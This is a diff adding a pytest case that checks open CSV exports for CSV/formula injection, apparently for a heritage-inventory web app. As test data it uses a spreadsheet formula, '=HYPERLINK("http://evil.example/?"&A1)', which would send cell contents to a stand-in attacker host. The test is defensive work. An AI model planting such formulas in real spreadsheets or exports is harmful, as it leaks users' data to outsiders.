@@ -166,6 +166,17 @@ def test_staff_export_defuses_spreadsheet_formulas(client, campaign, moderator):
     assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
 
 
+@pytest.mark.parametrize("url", ["export.csv", "merimee.csv"])
+def test_open_csv_exports_defuse_spreadsheet_formulas_too(client, campaign, moderator, url):
+    """Open files are opened in spreadsheets too: a title typed as a formula must never
+    run there (issue #11). The apostrophe shows; the ODS and XLSX keep the text exact."""
+    published(campaign, moderator, title='=HYPERLINK("http://evil.example/?"&A1)', address="-1 rue")
+    rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/{url}")))
+    cells = [cell for row in rows for cell in row.values()]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
+    assert not [cell for cell in cells if cell and cell[0] in "=+@\t\r"]
+
+
 @pytest.mark.parametrize(
     "url",
     [
